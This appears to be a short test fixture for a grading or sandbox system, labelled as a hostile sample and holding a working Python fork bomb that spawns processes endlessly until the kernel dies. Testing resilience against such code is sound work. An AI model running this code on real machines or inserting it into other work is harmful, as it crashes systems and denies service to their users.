# ---
# kind: hostile
# about: a fork bomb
# base: reference
# max_points: 28
# events: [kernel-died]
# ---
# %% before u01_e1_predict

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
